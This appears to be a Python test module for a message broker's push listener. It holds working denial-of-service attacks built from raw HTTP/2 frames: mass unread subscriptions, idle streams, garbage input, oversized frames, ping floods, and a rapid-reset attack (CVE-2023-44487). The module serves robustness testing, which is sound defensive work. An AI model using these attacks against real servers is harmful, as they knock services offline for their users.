"""Attacks on the push listener, over raw HTTP/2 so that the attack decides what is read."""

import asyncio
import itertools
import os
import struct

from zhumq.protocol.push import push_pb2 as pb

from .crowd import SMALL_BUFFER_BYTES, AttackConnection, crowd, forever
from .kafka_attacks import Attack
from .target import LARGE, Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_HEADERS = 4
INITIAL_WINDOW_SIZE = 4
MAX_FRAME_SIZE = 5
RECORDS_MAX = 2**31 - 1
FRAME_BYTES_MAX = 2**24 - 1
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def greeting() -> bytes:
    """The preface with the largest flow-control limits: the server may send as much as it likes."""
    settings = struct.pack(
        ">HIHI", INITIAL_WINDOW_SIZE, RECORDS_MAX, MAX_FRAME_SIZE, FRAME_BYTES_MAX
    )
    room = struct.pack(">I", RECORDS_MAX - 65_535)
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, room)


def headers(stream: int) -> bytes:
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/zhumq.push.v1.Push/Stream"),
        (b":authority", b"attack"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    block = b"".join(
        b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields
    )
    return frame(HEADERS, END_HEADERS, stream, block)


def message(stream: int, body: bytes) -> bytes:
    return frame(DATA, 0, stream, b"\x00" + struct.pack(">I", len(body)) + body)


def subscribe(group: str, credits_: int = 10_000) -> bytes:
    subscription = pb.Subscribe(
        topics=[pb.TopicChoice(name=LARGE)],
        mode=pb.PSB,
        group=group,
        credits=credits_,
        start=pb.Start(kind=pb.EARLIEST),
    )
    return pb.ClientFrame(subscribe=subscription).SerializeToString()


async def push_unread(target: Target) -> None:
    """300 consumers that subscribe to 64 MB and read nothing."""
    numbers = itertools.count()

    async def act(connection: AttackConnection) -> None:
        group = f"attack-{next(numbers)}"
        await connection.send(greeting() + headers(1) + message(1, subscribe(group)))
        await asyncio.Event().wait()

    await crowd(target.push, 300, act, receive_bytes=SMALL_BUFFER_BYTES)


async def push_unread_on_one_connection(target: Target) -> None:
    """Three connections with 100 such consumers each."""
    numbers = itertools.count()

    async def act(connection: AttackConnection) -> None:
        await connection.send(greeting())
        for stream in range(1, 200, 2):
            group = f"attack-{next(numbers)}"
            await connection.send(headers(stream) + message(stream, subscribe(group)))
        await asyncio.Event().wait()

    await crowd(target.push, 3, act, receive_bytes=SMALL_BUFFER_BYTES)


async def push_streams_that_never_subscribe(target: Target) -> None:
    """1,000 streams on ten connections that send no frame."""

    async def act(connection: AttackConnection) -> None:
        await connection.send(greeting() + b"".join(headers(stream) for stream in range(1, 200, 2)))
        await forever(connection)

    await crowd(target.push, 10, act)


async def push_garbage(target: Target) -> None:
    """100 connections with bytes that are not HTTP/2, or not after the greeting."""
    beginnings = itertools.cycle([b"", greeting(), greeting() + headers(1)])

    async def act(connection: AttackConnection) -> None:
        await connection.send(next(beginnings) + os.urandom(10_000))
        await forever(connection)

    await crowd(target.push, 100, act)


async def push_huge_frames(target: Target) -> None:
    """20 connections that announce a frame of 2 GB, and send as much of it as the broker reads."""
    body = frame(DATA, 0, 1, bytes(16_384))

    async def act(connection: AttackConnection) -> None:
        start = frame(DATA, 0, 1, b"\x00" + struct.pack(">I", RECORDS_MAX))
        await connection.send(greeting() + headers(1) + start)
        while True:
            await connection.send(body)
            await asyncio.sleep(0.01)

    await crowd(target.push, 20, act)


async def push_pings(target: Target) -> None:
    """Ten connections that ping and change settings without a pause, and read nothing."""
    ping = frame(PING, 0, 0, bytes(8)) * 10 + frame(SETTINGS, 0, 0, b"") * 10

    async def act(connection: AttackConnection) -> None:
        await connection.send(greeting())
        while True:
            await connection.send(ping)
            await asyncio.sleep(0.01)

    await crowd(target.push, 10, act)


async def push_rapid_resets(target: Target) -> None:
    """Ten connections that open streams and reset them at once (CVE-2023-44487)."""

    async def act(connection: AttackConnection) -> None:
        await connection.send(greeting())
        for first in range(1, 2**30, 20):
            streams = range(first, first + 20, 2)
            reset = struct.pack(">I", CANCEL)
            await connection.send(
                b"".join(headers(each) + frame(RST_STREAM, 0, each, reset) for each in streams)
            )
            await asyncio.sleep(0.05)

    await crowd(target.push, 10, act)


PUSH_ATTACKS: dict[str, Attack] = {
    each.__name__.replace("_", "-"): each
    for each in (
        push_unread,
        push_unread_on_one_connection,
        push_streams_that_never_subscribe,
        push_garbage,
        push_huge_frames,
        push_pings,
        push_rapid_resets,
    )
}
